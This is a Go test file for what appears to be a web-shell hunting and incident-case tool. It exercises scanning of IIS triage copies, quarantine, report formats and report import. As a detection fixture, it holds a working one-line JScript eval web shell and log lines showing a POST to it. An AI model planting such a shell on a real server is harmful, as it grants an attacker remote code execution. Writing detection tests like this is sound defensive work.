package app

import (
	"context"
	"encoding/json"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/exsweep/exsweep/internal/store"
)

// writeTree lays out a tiny triage copy (KAPE style, C/…).
func writeTree(t *testing.T, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for p, body := range files {
		full := filepath.Join(root, filepath.FromSlash(p))
		os.MkdirAll(filepath.Dir(full), 0o755)
		if err := os.WriteFile(full, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

const iisHeader = "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-01-02 00:00:00\r\n" +
	"#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n"

func TestHuntCommand(t *testing.T) {
	shell := `<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>`
	compromised := writeTree(t, map[string]string{
		"C/inetpub/wwwroot/aspnet_client/system_web/Ab3dE7gH.aspx": shell,
		"C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log": iisHeader +
			"2021-01-02 10:00:00 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 198.51.100.1 Mozilla/5.0 - 200 0 0 10\r\n" +
			"2021-03-03 02:17:00 10.0.0.5 POST /aspnet_client/system_web/Ab3dE7gH.aspx - 443 - 139.162.202.236 Mozilla/5.0 - 200 0 0 10\r\n",
	})
	out, errOut, code := run(t, "", "hunt", "--root", compromised)
	if code != ExitFindings || !strings.HasPrefix(out, "COMPROMISED") || !strings.Contains(out, "Ab3dE7gH.aspx") {
		t.Fatalf("compromised tree: exit %d\n%s\n%s", code, out, errOut)
	}
	jsonOut, _, _ := run(t, "", "hunt", "--root", compromised, "--format", "json")
	var rep struct {
		Verdict  string
		Findings []struct{ Grade, Path string }
		Coverage []struct{ Source string }
	}
	if err := json.Unmarshal([]byte(jsonOut), &rep); err != nil || rep.Verdict != "compromised" || len(rep.Coverage) == 0 {
		t.Fatalf("json: %v %+v", err, rep)
	}
	for _, f := range []string{"html", "sarif", "csv", "timeline-csv"} {
		if _, errOut, code := run(t, "", "hunt", "--root", compromised, "--format", f, "-o", filepath.Join(t.TempDir(), "r")); code != ExitFindings {
			t.Errorf("--format %s: exit %d %s", f, code, errOut)
		}
	}

	// Quarantine: a dry run moves nothing; --yes moves the shell, keeps a manifest.
	q := filepath.Join(t.TempDir(), "q")
	shellPath := filepath.Join(compromised, "C", "inetpub", "wwwroot", "aspnet_client", "system_web", "Ab3dE7gH.aspx")
	_, errOut, _ = run(t, "", "hunt", "--root", compromised, "--quarantine", q)
	if _, err := os.Stat(shellPath); err != nil || !strings.Contains(errOut, "dry run") {
		t.Fatalf("dry run moved the file or said nothing: %v\n%s", err, errOut)
	}
	_, errOut, _ = run(t, "", "hunt", "--root", compromised, "--quarantine", q, "--yes")
	if _, err := os.Stat(shellPath); !os.IsNotExist(err) {
		t.Errorf("web shell still in place after --yes:\n%s", errOut)
	}
	if b, err := os.ReadFile(filepath.Join(q, "manifest.json")); err != nil || !strings.Contains(string(b), "Ab3dE7gH.aspx") {
		t.Errorf("manifest: %v %s", err, b)
	}

	clean := writeTree(t, map[string]string{
		"C/inetpub/logs/LogFiles/W3SVC1/u_ex210102.log": iisHeader +
			"2021-01-02 10:00:00 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 198.51.100.1 Mozilla/5.0 - 200 0 0 10\r\n",
	})
	out, errOut, code = run(t, "", "hunt", "--root", clean)
	if code == ExitFindings || !strings.HasPrefix(out, "CLEAN") {
		t.Errorf("clean tree: exit %d\n%s\n%s", code, out, errOut)
	}

	for _, args := range [][]string{{"hunt"}, {"hunt", "--root", "/nonexistent"}, {"hunt", "--root", clean, "--format", "pdf"},
		{"hunt", "--root", clean, "--since", "yesterday"}, {"hunt", "--root", clean, "--yes"}} {
		if _, errOut, code := run(t, "", args...); code != ExitUsage {
			t.Errorf("%v: exit %d, want 2 (%s)", args, code, errOut)
		}
	}
}

// TestImportHunt: hunt → import-hunt end to end. A compromised report opens a
// compromised case for the endpoint's owner and is kept for the endpoint; a
// clean report is kept too and opens nothing; a file that is not a hunt
// report is refused.
func TestImportHunt(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "x.db")
	cons := filepath.Join(dir, "c.yaml")
	os.WriteFile(cons, []byte("organisations:\n  - name: Delta\n    to: [cert@delta.example]\n    cidrs: [192.0.2.0/24]\n"), 0o644)
	compromised := writeTree(t, map[string]string{
		"C/inetpub/wwwroot/aspnet_client/system_web/Ab3dE7gH.aspx": `<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>`,
	})
	report := filepath.Join(dir, "hunt.json")
	if _, errOut, code := run(t, "", "hunt", "--root", compromised, "--format", "json", "-o", report); code != ExitFindings {
		t.Fatalf("hunt: exit %d %s", code, errOut)
	}
	out, errOut, code := run(t, "", "cases", "import-hunt", report, "--endpoint", "192.0.2.7:443", "--db", db, "--constituency", cons)
	if code != ExitOK || !strings.Contains(out, "created true") || !strings.Contains(out, "stored as hunt report 1") {
		t.Fatalf("import-hunt: exit %d\n%s\n%s", code, out, errOut)
	}
	clean := writeTree(t, map[string]string{"C/inetpub/logs/LogFiles/W3SVC1/u_ex210102.log": iisHeader +
		"2021-01-02 10:00:00 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 198.51.100.1 Mozilla/5.0 - 200 0 0 10\r\n"})
	cleanReport := filepath.Join(dir, "clean.json")
	run(t, "", "hunt", "--root", clean, "--format", "json", "-o", cleanReport)
	out, _, code = run(t, "", "cases", "import-hunt", cleanReport, "--endpoint", "192.0.2.8:443", "--db", db)
	if code != ExitOK || !strings.Contains(out, "verdict clean: no compromised case opened") {
		t.Errorf("clean import: exit %d\n%s", code, out)
	}
	if _, _, code := run(t, "", "cases", "import-hunt", cons, "--endpoint", "192.0.2.8:443", "--db", db); code != ExitUsage {
		t.Errorf("import of a non-report: exit %d; want 2", code)
	}
	huge := filepath.Join(dir, "huge.json")
	if err := os.WriteFile(huge, make([]byte, store.MaxHuntReportBytes+1), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, errOut, code := run(t, "", "cases", "import-hunt", huge, "--endpoint", "192.0.2.8:443", "--db", db); code != ExitUsage ||
		!strings.Contains(errOut, "larger than 16 MiB") {
		t.Errorf("import of an oversized file: exit %d %s", code, errOut)
	}

	st, err := store.Open(context.Background(), db)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	cs, _ := st.ListCases(context.Background(), store.CaseFilter{})
	if len(cs) != 1 || cs[0].OrgKey != "delta" || cs[0].Problem != store.ProblemCompromised || cs[0].Endpoint.String() != "192.0.2.7:443" {
		t.Errorf("cases = %+v; want one compromised case of delta", cs)
	}
	for ep, verdict := range map[string]string{"192.0.2.7:443": "compromised", "192.0.2.8:443": "clean"} {
		reps, err := st.HuntReports(context.Background(), netip.MustParseAddrPort(ep), 0)
		if err != nil || len(reps) != 1 || reps[0].Verdict != verdict || reps[0].Source == "" {
			t.Errorf("hunt reports of %s = %+v, %v; want one %s", ep, reps, err, verdict)
		}
	}
}
